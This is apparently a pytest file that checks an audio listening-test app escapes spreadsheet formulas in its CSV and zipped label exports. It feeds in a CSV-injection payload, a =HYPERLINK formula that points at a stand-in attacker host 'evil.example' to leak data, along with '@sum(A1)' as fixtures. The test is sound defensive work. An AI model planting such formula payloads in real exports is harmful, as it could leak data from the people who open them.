"""Every CSV the app writes goes through one escaping function (issue 13, item 6): the
listening-test exports, the URGENT labels zip and the Compare exports. A cell that a
spreadsheet would run as a formula is prefixed with ``'``; a number written as text
(a listener id ``-1``) stays a number."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from audio.io import Audio
from db.models import SystemKind
from library.clips import add_clip, get_or_create_dataset, get_or_create_system
from library.comparison import comparison_inputs, run_comparison, write_exports
from listening_tests.downloads import EXPORTS, export_file
from listening_tests.errors import NotFound
from listening_tests.exports import FORMULA_PREFIXES
from se.systems import get_system
from tests.listening_tests.rating_lab import Rater, make_lab, plain_spec
from tests.se.speech import add_white_noise, make_speech

HOSTILE = '=HYPERLINK("http://evil.example/?leak","open me")'
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe(text: str, name: str) -> list[str]:
    """No cell a spreadsheet would run; returns the cells."""
    found = cells(text)
    for cell in found:
        assert not cell.startswith(FORMULA_PREFIXES) or NUMBER.fullmatch(cell), (name, cell)
    return found


def test_every_listening_test_export_is_escaped_and_keeps_numbers(tmp_path):
    lab = make_lab(tmp_path, "mini")
    test_id = lab.create(plain_spec())
    for participant in (HOSTILE, "-1", "@sum(A1)"):
        Rater(lab, test_id, participant).full_session()
    written = {}
    with lab.sessions() as db:
        for name in EXPORTS:  # every method's names: this ACR test writes some of them
            try:
                content = export_file(db, lab.store, test_id, name).content
            except NotFound:
                continue
            if name.endswith(".csv"):
                written[name] = content.decode()
            elif name.endswith(".zip"):
                with zipfile.ZipFile(io.BytesIO(content)) as archive:
                    written[f"{name}/labels.csv"] = archive.read("labels.csv").decode()
    assert len(written) >= 5, written.keys()
    for name, text in written.items():
        assert_safe(text, name)
    worker = cells(written["votes_per_worker.csv"])
    assert "'" + HOSTILE in worker and "'@sum(A1)" in worker and "-1" in worker
    labels = list(csv.DictReader(io.StringIO(written["urgent_labels.zip/labels.csv"])))
    listeners = {row["listener_id"] for row in labels}
    assert "-1" in listeners and "'" + HOSTILE in listeners, listeners


def test_compare_exports_are_escaped(sessions, store, tmp_path):
    """A wav.scp id (the clip's name) that is a formula, as the issue found it in
    comparison_per_clip.csv."""
    rate = 16_000
    clean = make_speech(rate, seconds=1.0)
    with sessions.begin() as s:
        dataset = get_or_create_dataset(s, "scp")
        reference = get_or_create_system(s, "reference", SystemKind.REFERENCE)
        ref = add_clip(s, store, Audio(clean, rate), name="ref.flac", origin="import",
                       dataset=dataset, system=reference)
        for i, name in enumerate((HOSTILE, "-1")):
            add_clip(s, store, Audio(add_white_noise(clean, 5.0 + i, seed=i), rate),
                     name=name, origin="import", dataset=dataset,
                     reference_clip_id=ref.clip_id)
    with sessions() as s:
        inputs = comparison_inputs(s, "scp")
    results = run_comparison(sessions, store, inputs, [get_system("unprocessed")], ["si_sdr"])
    paths = write_exports(results, ["si_sdr"], tmp_path)
    assert [p.name for p in paths] == ["comparison_per_clip.csv", "comparison_per_system.csv"]
    per_clip = assert_safe(paths[0].read_text(), paths[0].name)
    assert_safe(paths[1].read_text(), paths[1].name)
    assert "'" + HOSTILE in per_clip and "-1" in per_clip
